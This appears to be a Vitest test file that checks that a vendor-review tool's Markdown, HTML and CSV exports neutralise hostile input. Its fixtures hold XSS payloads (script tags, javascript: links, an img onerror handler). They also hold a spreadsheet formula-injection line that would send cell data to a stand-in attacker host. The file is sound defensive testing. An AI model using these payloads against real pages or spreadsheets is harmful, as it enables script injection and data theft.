import { describe, expect, it } from 'vitest';
import { Q } from '../questionnaire/question-ids';
import { completeAnswers } from '../questionnaire/test-helpers';
import { buildFindings, type FindingsInput, type FindingsMode } from './findings';
import { markdownText } from './markdown-text';
import {
  DETECTION,
  EXPORTED_AT,
  TODAY,
  answerRecords,
  assessmentFixture,
  parseCsv,
  parseHtml,
  vendorFixture,
} from './test-fixtures';
import { csvRowFromVendor, vendorsToCsv } from './to-csv';
import { findingsToHtml } from './to-html';
import { findingsToMarkdown } from './to-markdown';

/** Everything a hostile page or a careless paste could put in a string. */
const HOSTILE =
  'Evil | Co `x` <script>alert(1)</script> [x](javascript:alert(1)) ![i](https://t.example/p.png) ' +
  '*b* _i_ ~~s~~ $x$ &amp; \\| <img src=x onerror=alert(1)>\n# heading\r\n---\n> quote\n1. item\n    code';
const LONG = `${'A | `b` <i> '.repeat(900)}end`.padEnd(10_000, 'x');
const MODES: FindingsMode[] = ['full', 'summary', 'questions'];

/** The same review with every page or user string set to `s`. */
function reviewWith(s: string, long: string, url: string): FindingsInput {
  return {
    vendor: vendorFixture({ name: s, urls: [url] }),
    detection: {
      ...DETECTION,
      url,
      vendor: { name: s, domain: s, host: null },
      subprocessors: [
        { name: s, purpose: s, location: long, ai: true },
        { name: 'AWS', purpose: s, ai: false },
      ],
    },
    assessment: assessmentFixture({ reviewer: s, signedOffBy: s }),
    answers: answerRecords(
      completeAnswers({
        [Q.exceptions]: true,
        [Q.exceptionsAssessment]: s,
        [Q.nistControls]: s,
        [Q.aiSubprocessors]: s,
        [Q.cuec]: [{ control: s, owner: s }],
      }),
      {
        [Q.reportType]: {
          note: s,
          evidence: [
            { url, quote: s, capturedAt: 0 },
            { url: 'https://trust.acme.ai/', quote: long, capturedAt: 0 },
          ],
        },
      },
    ),
    note: '',
    today: TODAY,
    exportedAt: EXPORTED_AT,
  };
}

const hostile = () => buildFindings(reviewWith(HOSTILE, LONG, 'javascript:alert(1)'));
const benign = () => buildFindings(reviewWith('Plain', 'Long', 'https://plain.example/'));

/** A line's block kind: what a Markdown renderer would make of it. */
function shape(line: string): string {
  if (!line) return 'blank';
  const m = /^(#{1,6} |\| |> |- |\d+\. )/.exec(line);
  return m ? m[1]! : 'text';
}

/** Cells in a GFM table row: pipes not escaped by a backslash separate cells. */
function cellCount(row: string): number {
  let pipes = 0;
  for (let i = 0; i < row.length; i++) {
    if (row[i] === '\\') i++;
    else if (row[i] === '|') pipes++;
  }
  return pipes - 1;
}

describe('hostile text in the Markdown export', () => {
  it.each(MODES)('%s: cannot add, remove or change a block (heading, list, quote, table row)', (mode) => {
    const attack = findingsToMarkdown(hostile(), mode).split('\n').map(shape);
    expect(attack).toEqual(findingsToMarkdown(benign(), mode).split('\n').map(shape));
  });

  it.each(MODES)('%s: no raw HTML, links, images, code spans or math', (mode) => {
    const md = findingsToMarkdown(hostile(), mode);
    expect(md).not.toMatch(/(^|[^\\])<(?!https?:\/\/)/m);
    expect(md).not.toMatch(/(^|[^\\])[[\]`$]/m);
    for (const [, target] of md.matchAll(/(?:^|[^\\])<([^>]*)>/gm)) expect(target).toMatch(/^https?:\/\//);
    expect(md).not.toMatch(/<javascript:/i);
  });

  it('keeps every table row to its columns', () => {
    const md = findingsToMarkdown(hostile(), 'full');
    const tables: string[][] = [];
    let previous = '';
    for (const line of md.split('\n')) {
      if (line.startsWith('|') && !previous.startsWith('|')) tables.push([]);
      if (line.startsWith('|')) tables.at(-1)!.push(line);
      previous = line;
    }
    expect(tables.map((rows) => rows.length)).toEqual([12, 4]);
    for (const rows of tables) {
      expect(new Set(rows.map(cellCount))).toEqual(new Set([cellCount(rows[0]!)]));
    }
  });

  it('still shows the text itself, escaped, 10,000 characters included', () => {
    const md = findingsToMarkdown(hostile(), 'full');
    expect(md).toContain(`# Vendor review: ${markdownText(HOSTILE)}`);
    expect(md).toContain(markdownText(LONG));
    expect(md).toContain('javascript:alert\\(1\\)');
  });

  it('keeps the reviewer’s own note verbatim, in the full export only', () => {
    const note = '# Heading\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n<details>mine</details>';
    const f = { ...hostile(), note };
    expect(findingsToMarkdown(f, 'full')).toContain(`## Reviewer notes\n\n${note}\n`);
    expect(findingsToMarkdown(f, 'summary')).not.toContain('mine');
    expect(findingsToMarkdown(f, 'questions')).not.toContain('mine');
  });
});

describe('hostile text in the HTML export', () => {
  const ALLOWED = new Set(
    'H1 H2 H3 P UL OL LI TABLE THEAD TBODY TR TH TD BLOCKQUOTE A STRONG EM BR'.split(' '),
  );

  it.each(MODES)('%s: only our elements, no script, links only to http(s)', (mode) => {
    const html = findingsToHtml({ ...hostile(), note: HOSTILE }, mode);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    const doc = parseHtml(html);
    for (const el of doc.body.querySelectorAll('*')) expect(ALLOWED).toContain(el.tagName);
    for (const a of doc.querySelectorAll('a')) {
      expect(a.getAttribute('href')).toMatch(/^https?:\/\//);
      expect(a.getAttribute('rel')).toBe('noreferrer');
    }
    expect(doc.querySelectorAll('[onerror], [src], [style*="url("]')).toHaveLength(0);
  });

  it('shows the text exactly as written, as text', () => {
    const doc = parseHtml(findingsToHtml({ ...hostile(), note: HOSTILE }, 'full'));
    const flat = (s: string | null | undefined) => s?.replace(/\s+/g, ' ').trim();
    expect(flat(doc.querySelector('h1')?.textContent)).toBe(flat(`Vendor review: ${HOSTILE}`));
    const quotes = [...doc.querySelectorAll('blockquote')].map((q) => q.textContent);
    expect(quotes[0]).toBe(`“${HOSTILE}” — javascript:alert(1)`);
    expect(quotes[1]).toContain(LONG);
    expect(doc.querySelectorAll('a')).toHaveLength(1);
    const notes = [...doc.querySelectorAll('h2')].at(-1)!.nextElementSibling!;
    for (const br of notes.querySelectorAll('br')) br.replaceWith('\n');
    expect(notes.textContent).toBe(HOSTILE.replace(/\r\n/g, '\n'));
  });
});

describe('hostile text in the CSV export', () => {
  it('defuses a formula name and round-trips every hostile field', () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    const csv = vendorsToCsv([
      csvRowFromVendor(vendorFixture({ name: formula })),
      { ...csvRowFromVendor(vendorFixture({ name: HOSTILE })), verdict: '@SUM(1,2)', windowEnd: LONG },
    ]);
    const [, first, second] = parseCsv(csv);
    expect(first![0]).toBe(`'${formula}`);
    expect(second![0]).toBe(HOSTILE);
    expect(second![3]).toBe("'@SUM(1,2)");
    expect(second![5]).toBe(LONG);
  });
});
